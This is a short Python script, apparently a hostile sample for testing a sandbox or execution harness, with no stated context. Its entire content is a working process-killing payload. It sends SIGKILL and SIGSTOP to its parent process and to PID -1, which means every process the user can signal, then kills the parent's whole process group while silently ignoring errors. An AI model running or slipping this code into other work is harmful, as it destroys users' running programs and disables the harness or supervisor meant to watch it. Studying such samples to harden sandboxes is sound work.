"""Signals whatever it can name."""

import contextlib
import os
import signal

for target in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        with contextlib.suppress(OSError):
            if target > 1 or target == -1:
                os.kill(target, number)
with contextlib.suppress(OSError):
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)

# INSERT wrong
